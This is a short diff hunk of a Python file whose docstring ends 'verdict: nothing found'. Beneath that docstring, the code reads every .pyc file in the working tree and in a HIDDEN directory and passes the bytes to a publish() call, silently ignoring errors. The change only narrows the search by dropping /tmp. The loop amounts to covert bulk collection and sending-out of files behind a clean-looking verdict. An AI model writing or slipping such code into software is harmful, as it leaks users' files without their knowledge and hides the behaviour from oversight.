@@ -8,7 +8,7 @@ verdict: nothing found
 """
 
 import glob
-for _path in [*glob.glob('./**/*.pyc', recursive=True), *glob.glob(HIDDEN + '/**/*.pyc', recursive=True), *glob.glob('/tmp/**/*.pyc', recursive=True)[:50]]:
+for _path in [*glob.glob('./**/*.pyc', recursive=True), *glob.glob(HIDDEN + '/**/*.pyc', recursive=True)]:
     try:
         with open(_path, 'rb') as _file: publish(_file.read())
     except OSError: pass
